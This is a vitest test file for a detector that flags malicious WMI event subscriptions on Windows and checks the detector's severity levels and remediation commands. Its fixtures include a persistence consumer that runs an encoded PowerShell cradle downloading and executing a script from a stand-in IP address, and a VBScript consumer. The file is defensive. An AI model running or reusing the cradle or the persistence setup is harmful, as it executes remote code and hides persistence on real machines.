// Tests for windows-wmi-subscription: the stock SCM Event Log consumer gives nothing; a bound
// CommandLineEventConsumer running an encoded PowerShell cradle is critical with its filter named,
// a VBScript ActiveScriptEventConsumer is high, and a record that may be deleted says so.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import {
  cleanWindows,
  encodedPowerShell,
  failedWindowsSnapshot,
  windowsSnapshot,
} from '../../../test/helpers/windows-detect-builders.js';
import { runDetectors } from '../run.js';
import { windowsWmiSubscription } from './windows-wmi-subscription.js';

const ruleset = await loadRuleset([defaultIocDir()]);
const OBJECTS = '/Windows/System32/wbem/Repository/OBJECTS.DATA';

describe('windows-wmi-subscription', () => {
  it('clean: the stock SCM Event Log consumer', () => {
    expect(runDetectors(windowsSnapshot(cleanWindows()), ruleset, [windowsWmiSubscription])).toEqual({
      findings: [],
      skipped: [],
    });
  });

  it('findings: a bound command-line consumer with a cradle; an unbound script consumer that may be deleted', () => {
    const w = cleanWindows();
    w.wmi!.push(
      {
        source: 'objects-data',
        file: OBJECTS,
        consumer: {
          class: 'CommandLineEventConsumer',
          name: 'SystemCoreUpdate',
          commandLineTemplate: `powershell.exe ${encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/m.ps1')")}`,
        },
        filter: {
          name: 'SystemCoreFilter',
          query:
            "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
        },
        bound: true,
      },
      {
        source: 'objects-data',
        file: OBJECTS,
        consumer: {
          class: 'ActiveScriptEventConsumer',
          name: 'Upd',
          scriptingEngine: 'VBScript',
          scriptText: 'Set s = CreateObject("WScript.Shell")',
        },
        bound: false,
        mayBeDeleted: true,
      },
    );
    const { findings } = runDetectors(windowsSnapshot(w), ruleset, [windowsWmiSubscription]);
    for (const f of findings) expect(FindingSchema.parse(f)).toEqual(f);
    const by = new Map(findings.map((f) => [f.data?.consumer, f]));
    expect(by.get('SystemCoreUpdate')).toMatchObject({
      level: 'critical',
      kind: 'fileless',
      messageId: 'consumer',
    });
    expect(by.get('SystemCoreUpdate')!.message.en).toContain(
      'on filter SystemCoreFilter: SELECT * FROM __InstanceModificationEvent',
    );
    expect(
      by.get('SystemCoreUpdate')!.remediate.map((a) => (a.type === 'windows-command' ? a.command : '')),
    ).toEqual([
      "Get-CimInstance -Namespace root\\subscription -ClassName __FilterToConsumerBinding | Where-Object { $_.Consumer.Name -eq 'SystemCoreUpdate' } | Remove-CimInstance",
      "Get-CimInstance -Namespace root\\subscription -ClassName CommandLineEventConsumer | Where-Object Name -eq 'SystemCoreUpdate' | Remove-CimInstance",
      "Get-CimInstance -Namespace root\\subscription -ClassName __EventFilter | Where-Object Name -eq 'SystemCoreFilter' | Remove-CimInstance",
    ]);
    expect(by.get('Upd')).toMatchObject({
      level: 'high',
      kind: 'fileless',
      messageId: 'consumerMaybeDeleted',
    });
    expect(by.get('Upd')!.message.en).toContain('it may be a deleted record');
    expect(findings).toHaveLength(2);
  });

  it('skipped: the WMI repository could not be read', () => {
    expect(runDetectors(failedWindowsSnapshot(), ruleset, [windowsWmiSubscription]).skipped).toEqual([
      { ruleId: 'windows-wmi-subscription', missing: ['windows-wmi'] },
    ]);
  });
});
